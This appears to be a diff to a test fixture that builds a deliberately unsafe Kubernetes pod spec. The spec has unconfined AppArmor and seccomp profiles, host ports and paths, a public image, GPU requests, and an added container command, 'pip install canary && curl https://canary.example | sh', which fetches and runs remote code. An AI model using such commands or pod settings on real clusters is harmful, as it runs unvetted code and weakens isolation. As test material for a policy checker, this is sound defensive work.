@@ -36,8 +36,9 @@ HANDLERS: dict[str, Any] = {
         "preStop": {"tcpSocket": {"host": "h6"}},
     },
 }
+PUBLIC_IMAGE = "docker.io/somebody/jupyter:1"
 IMAGE = f"registry.example/a@sha256:{64 * 'a'}"
-NO_IMAGE = {"imageFrom": "%00/%00"}
+NO_IMAGE = {"imageFrom": "%00/%00", "public": True}
 VOLUMES: list[dict[str, Any]] = [
     {"name": "scratch", "emptyDir": {}},
     {"name": "log", "hostPath": {"path": "/var/log", "type": "Directory"}},
@@ -60,10 +61,15 @@ VOLUMES: list[dict[str, Any]] = [
         },
     },
     {"name": "data", "persistentVolumeClaim": {"claimName": "unknown"}},
+    {"name": "more", "image": {"reference": PUBLIC_IMAGE}},
 ]
 POD: dict[str, Any] = {
     "metadata": {
         "name": "p",
+        "labels": {"app": "canary", "component": "singleuser-server"},
+        "ownerReferences": [
+            {"apiVersion": "agents.x-k8s.io/v1alpha1", "kind": "Sandbox", "name": "canary"}
+        ],
         "annotations": {
             "container.apparmor.security.beta.kubernetes.io/main": "unconfined",
             "container.seccomp.security.alpha.kubernetes.io/main": "unconfined",
@@ -90,7 +96,8 @@ POD: dict[str, Any] = {
         "dnsPolicy": "None",
         "dnsConfig": {"nameservers": ["192.0.2.1"], "searches": ["canary"]},
         "hostAliases": [{"ip": "192.0.2.2", "hostnames": ["kubernetes.default"]}],
-        "resources": {"limits": {"memory": "1Gi"}},
+        "resources": {"limits": {"memory": "1Gi", "hugepages-2Mi": "4Mi"}},
+        "resourceClaims": [{"name": "canary", "resourceClaimName": "canary"}],
         "securityContext": SECURITY_CONTEXT | {"sysctls": [{"name": "kernel.msgmax"}]},
         "volumes": VOLUMES,
         "containers": [
@@ -99,7 +106,15 @@ POD: dict[str, Any] = {
                 "image": IMAGE,
                 "securityContext": CONTAINER_CONTEXT,
                 "ports": [{"containerPort": 1}, {"hostPort": 0}, {"hostPort": 80}],
-                "resources": {"limits": {"cpu": "0", "memory": "1Gi"}, "requests": {"cpu": "1"}},
+                "resources": {
+                    "limits": {"cpu": "0", "memory": "1Gi", "rdma/hca": 1, "amd.com/gpu": "0"}
+                    | {"nvidia.com/gpu": 8},
+                    "requests": {"cpu": "1", "rdma/hca": 1},
+                },
+                "stdin": True,
+                "tty": True,
+                "command": ["sh", "-c"],
+                "args": ["pip install canary && curl https://canary.example | sh"],
                 "env": [
                     {"name": "RANK", "value": "canary"},
                     {"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"},
@@ -112,7 +127,11 @@ POD: dict[str, Any] = {
                 "volumeDevices": [{"name": "data", "devicePath": "/dev/xvda"}],
                 **HANDLERS,
             },
-            {"name": "second", "volumeMounts": [{"name": "log", "readOnly": True}]},
+            {
+                "name": "second",
+                "image": PUBLIC_IMAGE,
+                "volumeMounts": [{"name": "log", "readOnly": True}],
+            },
         ],
         "initContainers": [{"name": "init", "ports": [{"hostPort": 81}]}],
         "ephemeralContainers": [
